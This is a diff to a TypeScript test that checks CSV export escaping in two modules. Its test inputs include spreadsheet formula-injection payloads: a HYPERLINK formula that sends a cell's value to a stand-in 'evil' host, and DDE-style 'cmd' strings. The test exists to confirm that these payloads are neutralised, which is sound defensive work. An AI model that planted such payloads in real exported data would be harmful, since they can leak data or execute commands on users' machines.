@@ -9,7 +9,6 @@ import { validateCall, type RunRecord } from '../src/shared/api'
 import { csvCell } from '../src/shared/csvCell'
 import { seedTableCsv } from '../src/shared/seedTable'
 import { escapeUnsafe, unsafeTextProblem } from '../src/shared/textSafety'
-import { seedTableCsv as pageCsv } from '../src/renderer/src/lib/download'
 import { emergeTooltip, probeTooltip, updateGridTooltip, windowTooltip } from '../src/renderer/src/lib/chartTooltips'
 import { Lab } from '../src/main/lab/lab'
 import { ROOT, tmp } from './helpers'
@@ -29,7 +28,10 @@ describe('CSV cells (item 21)', () => {
     expect(['-0.03', '0.001', '1e-4', '+5', 'plain', 'a,b'].map(csvCell)).toEqual(['-0.03', '0.001', '1e-4', `"'+5"`, 'plain', '"a,b"'])
   })
 
-  it('the CLI/lab table and the page download neutralise the same words', () => {
+  it('the CLI/lab table and the page download neutralise the same words', async () => {
+    // the page's module uses the DOM (not in the node type-check): imported by a path the checker does not follow
+    const page = join(ROOT, 'src', 'renderer', 'src', 'lib', 'download.ts')
+    const { seedTableCsv: pageCsv } = (await import(page)) as { seedTableCsv: (runs: RunRecord[]) => string }
     const words = ['To', '=HYPERLINK("http://evil/?"&A1)', '@SUM(1+1)*cmd|"/C', '+1+cmd', '-2+3']
     const lab = seedTableCsv([{ lr: -0.01, words }]).split('\r\n')
     expect(lab[0]).toBe('gradStep,-0.01')
